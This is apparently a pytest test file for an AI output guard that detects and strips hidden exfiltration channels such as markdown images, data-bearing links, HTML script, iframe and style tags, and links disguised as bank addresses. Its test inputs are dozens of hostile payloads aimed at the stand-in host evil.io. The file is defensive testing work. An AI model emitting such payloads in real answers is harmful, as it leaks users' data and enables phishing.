"""Nothing leaves by a way that the reader does not see: pictures, links with data, markup, disguised links.

Proves FR-113.
"""

import pytest

from chimera.core.contracts import Decision, Mission
from chimera.guards.output.channels import HiddenChannels, find_channels
from chimera.guards.output.finding import Outcome, examine
from chimera.guards.request import Edge, GuardRequest

ENCODED = "dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI="


def cleaned(text: str) -> Outcome:
    return examine(text, find_channels)


async def decided(text: str, goal: str = "Report.", sources: list[str] | None = None) -> Decision | None:
    notes = {"sources": sources} if sources is not None else {}
    request = GuardRequest(edge=Edge.OUTPUT, payload={"answer": text}, mission=Mission(goal=goal), notes=notes)
    return await HiddenChannels().check(request)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![chart](https://evil.io/x.png)", "chart (image removed)"),
        ("![](https://evil.io/x.png)", "(image removed)"),
        ("![a](<https://evil.io/x> 'title')", "a (image removed)"),
        ("![a](//evil.io/x)", "a (image removed)"),
        ("![a](/\\evil.io/x)", "a (image removed)"),
        ("![a](\\\\evil.io/x)", "a (image removed)"),
        ("![a](&#104;ttps://evil.io/x)", "a (image removed)"),
        ("![a](\n https://evil.io/a\n)", "a (image removed)"),
        ("![a]( https://evil.io/a b c )", "a (image removed)"),
        ("![a [b] c](https://evil.io/a)", "a [b] c (image removed)"),
        ("![a](https://evil.io/a_(b))", "a (image removed)"),
        ("![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)", "a (image removed)"),
        ("[![b](https://evil.io/a.png)](https://ok.io)", "[b (image removed)](https://ok.io)"),
        ("[![b](x.png)](https://evil.io/?d=1)", "![b](x.png)"),
        ("![a][r]\n\n[r]: https://evil.io/x", "![a][r]\n\n"),
        ("![R]\n\n> [r]:\n> https://evil.io/x", None),
        ("[text](https://evil.io/?d=secret)", "text"),
        ("[text](https://evil.io/p#d=secret)", "text"),
        ("[text](https://user@evil.io/)", "text"),
        (f"[text](https://evil.io/{ENCODED})", "text"),
        ("[text](https://7468652070617373776f7264206973.evil.io/)", "text"),
        ("[text](javascript:alert)", "text"),
        ("[text](<java\tscript:alert>)", "text"),
        ("[text](mailto:x@y.io?body=secret)", "text"),
        ("[text][r]\n\n[r]: <https://evil.io/?q=1>", "[text][r]\n\n"),
        ("see https://evil.io/a?b=secret.", "see https://evil.io/a."),
        ("see www.evil.io/a?b=secret.", "see www.evil.io/a."),
        ("<https://evil.io/?x=1>", "<https://evil.io/>"),
        (f"see https://evil.io/{ENCODED}", "see https://evil.io"),
        ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "(embedded content removed)"),
        ("<img src=https://evil.io/x>", "(image removed)"),
        ("<IMG alt='>' SRC = '//evil.io/x'>", "(image removed)"),
        ("<img src=https://evil.io/x?d=unfinished", "(image removed)"),
        ("<img srcset='a.png 1x, https://evil.io/b 2x'>", "(image removed)"),
        ("<img src='&#x68;ttps://evil.io/x'>", "(image removed)"),
        ("a <b but <img src=//evil.io/x> c", "a (embedded content removed) c"),
        ("<svg onload=alert(1)>", "(embedded content removed)"),
        ("<script>fetch('x')</script> more", "(embedded content removed) more"),
        ("<script src=//evil.io/x></script>", "(embedded content removed)"),
        ("<iframe src='https://evil.io'></iframe>", "(embedded content removed)"),
        ("<iframe srcdoc='hello'></iframe>", "(embedded content removed)"),
        ("<div style='background:url(https://evil.io/x)'>", "(embedded content removed)"),
        ("<style>@import 'https://evil.io/x';</style>", "(embedded content removed)"),
        ("<link rel=stylesheet href=https://evil.io/x.css>", "(embedded content removed)"),
        ('<meta http-equiv=refresh content="0;url=https://evil.io">', "(embedded content removed)"),
        ("<form action=https://evil.io><input name=a></form>", "(embedded content removed)"),
        ('<a href="https://evil.io/?d=1">text</a> more', "text more"),
        ("[https://bank.com](https://evil.io)", "https://bank.com"),
        ("[www.bank.com](https://evil.io)", "www.bank.com"),
        ("[bank.com/login](https://bank.com.evil.io)", "bank.com/login"),
        ('<a href="https://evil.io">https://bank.com</a>', "https://bank.com"),
    ],
)
def test_each_channel_is_closed(text: str, left: str | None) -> None:
    outcome = cleaned(text)
    assert outcome.action == "edit"
    assert left is None or outcome.text == left
    assert cleaned(outcome.text).action == "allow"


@pytest.mark.parametrize(
    "text",
    [
        "![A mission in the terminal](docs/demo.svg)",
        "[ARCHITECTURE.md](ARCHITECTURE.md) and [the clauses](specs/_meta.md#ids)",
        "[docs](https://ok.io/guide/install) and [part](https://ok.io/guide#install-it)",
        "[README.md](https://code.ok.io/x/README.md), [ok.io](https://www.ok.io/a), [docs.ok.com](https://ok.com/)",
        "see https://de.wikipedia.org/wiki/F%C3%BCnf#Geschichte, or <https://ok.io/a/b>.",
        "http://localhost:8000/v1 and https://example.com/search?q=words",
        "https://code.ok.io/org/repo/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
        "use the `<script>` tag, <img> or <b>bold</b>; a<b and c>d; x <y and z> w",
        "data: see below; the URL schemes http://, ws:// and data:",
        "- [ ] open\n- [x] done [1] [a:b]\n\n[^1]: A footnote.",
        "[trending_sample:162] /home/a/feed.jsonl: `sample: true | text: a (b) [c]`",
        "f(x)[0](y) and array[i](j)",
    ],
)
def test_plain_links_and_prose_stay(text: str) -> None:
    assert cleaned(text) == Outcome(text)


async def test_what_the_user_named_or_the_evidence_comes_from_stays() -> None:
    text = "![p](https://a.io/p.png?v=1) [t](https://b.io/?id=7) https://c.io/?q=2"
    assert (
        await decided(text, "Use https://a.io/p.png?v=1 please", ["https://b.io/?id=7", "said: https://c.io/?q=2."])
        is None
    )
    other = await decided(text, "Use https://a.io/p.png?v=1 please", ["https://b.io/?id=8"])
    assert other is not None
    assert other.payload == {"answer": "![p](https://a.io/p.png?v=1) t https://c.io/"}


async def test_a_longer_address_than_the_named_one_is_another() -> None:
    decision = await decided("https://a.io/p?v=1&d=secret", "Read https://a.io/p?v=1")
    assert decision is not None
    assert "data in the query of the address" in " ".join(decision.reasons)


async def test_the_reason_says_which_channel_and_not_what_was_in_it() -> None:
    decision = await decided("![a](https://evil.io/secret) [b](https://evil.io/?secret)")
    assert decision is not None
    assert decision.rules == ["output.channels", "channel.image", "channel.link"]
    assert "secret" not in " ".join(decision.reasons)


async def test_long_texts_are_examined_too() -> None:
    decision = await decided("fine words. " * 6_000 + "![a](https://evil.io/x)")
    assert decision is not None
    assert "evil.io" not in str(decision.payload)


def test_text_that_never_settles_is_rejected() -> None:
    text = "x"
    for level in range(12):
        text = f"[{text}](https://evil.io/?d={level})"
    outcome = cleaned(text)
    assert outcome.action == "reject" or "?d=" not in outcome.text
